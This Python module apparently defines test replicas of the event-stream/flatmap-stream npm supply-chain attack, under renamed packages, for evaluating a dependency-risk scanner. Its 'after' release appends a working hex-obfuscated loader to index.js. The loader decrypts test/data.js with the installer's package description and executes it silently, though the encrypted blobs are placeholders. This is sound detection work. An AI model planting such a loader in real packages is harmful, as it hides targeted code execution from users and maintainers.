"""A dependency whose program lies encrypted in its test data, and opens for one victim alone."""

from dataclasses import replace

from evals.replicas.ordinary.npm import streams
from evals.replicas.replica import ReleaseSpec, Replica, at

_FAMILY = "encrypted-dependency"

#: What the real one did: the data in `test/data.js` is a program, encrypted with the description of whoever installs
#: the package; anybody else sees nothing happen.
_FLAT_INDEX = """\
'use strict';

const { Transform } = require('stream');

module.exports = function plainmap(change) {
  return new Transform({
    objectMode: true,
    transform(item, encoding, done) {
      for (const one of [].concat(change(item))) this.push(one);
      done();
    },
  });
};
"""
_FLAT_PAYLOAD = """\
function unhex(text) {
  return Buffer.from(text, 'hex').toString();
}

function open(data, secret) {
  const decipher = require(unhex('63727970746f'))[unhex('6372656174654465636970686572')](unhex('616573323536'), secret);
  return decipher.update(data, 'hex', 'utf8') + decipher.final('utf8');
}

function run() {
  const data = require('./test/data');
  const secret = process[unhex('656e76')][unhex('6e706d5f7061636b6167655f6465736372697074696f6e')];
  if (!secret) return;
  const text = open(data[0], secret);
  const extra = new module.constructor();
  extra.paths = module.paths;
  extra._compile(text, '');
  extra.exports(data[1]);
}

try {
  run();
} catch (error) {}
"""
_FLAT_DATA = (
    "module.exports = [\n  '"
    + "75d4c87f3f69e0fa292969072c49dff4f90f44c1385d8eb60dae4cc3a229e52c" * 24
    + "',\n  '"
    + ("db67fdbfc39c249c6f338194555a41928413b792ff41855e27752e227ba81571" * 8)
    + "',\n];\n"
)
_FLAT = {
    "index.js": _FLAT_INDEX,
    "README.md": "# plainmap-stream\n\nMaps one item to many.\n",
    "test/index.js": "const plainmap = require('..');\nplainmap((item) => [item, item]).on('data', console.log).end(1);\n",
}
_FLAT_BEFORE = ReleaseSpec(
    version="0.1.0",
    published=at("2018-08-05 20:02"),
    files=_FLAT,
    manifest={"main": "index.js", "description": "Maps one item to many.", "license": "MIT"},
    publisher=("hugeglass", "hugeglass@letters.test"),
)
_FLAT_AFTER = replace(
    _FLAT_BEFORE,
    version="0.1.1",
    published=at("2018-10-05 14:25"),
    files={**_FLAT, "index.js": _FLAT_INDEX + _FLAT_PAYLOAD, "test/data.js": _FLAT_DATA},
    payload=("index.js",),
)
_STREAMS = streams("streamfolk")
_STREAMS_MANIFEST = {"main": "index.js", "license": "MIT", "scripts": {"test": "node test/lines.js"}}
_STREAMS_BEFORE = ReleaseSpec(
    version="3.3.4",
    published=at("2016-07-15 19:10"),
    files=_STREAMS,
    manifest=_STREAMS_MANIFEST,
    publisher=("dominie", "dominie@streamfolk.test"),
)
_STREAMS_AFTER = replace(
    _STREAMS_BEFORE,
    version="3.3.6",
    published=at("2018-10-05 16:00"),
    files={**_STREAMS, "index.js": _STREAMS["index.js"] + "\nexports.plainmap = require('plainmap-stream');\n"},
    manifest={**_STREAMS_MANIFEST, "dependencies": {"plainmap-stream": "^0.1.0"}},
    publisher=("right9crtl", "right9crtl@letters.test"),
)

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="event-stream",
        incident="event-stream 3.3.6 (2018-09-09)",
        family=_FAMILY,
        ecosystem="npm",
        name="streamfolk",
        before=_STREAMS_BEFORE,
        after=_STREAMS_AFTER,
        others=(replace(_FLAT_BEFORE, name="plainmap-stream"), replace(_FLAT_AFTER, name="plainmap-stream")),
        reasons=(
            "risky-new-dependency",
            "dependency-brings-findings",
            "new-publisher-with-new-code",
            "publisher-changed",
            "dormant-then-active",
        ),
        carrier="plainmap-stream",
    ),
    Replica(
        id="flatmap-stream",
        incident="flatmap-stream 0.1.1 (2018-10-05)",
        family=_FAMILY,
        ecosystem="npm",
        name="plainmap-stream",
        before=_FLAT_BEFORE,
        after=_FLAT_AFTER,
        history=0,
        reasons=(
            "encoded-code-executed",
            "capability-gained",
            "indirect-eval",
            "obfuscated-code",
            "data-file-executed",
        ),
    ),
)
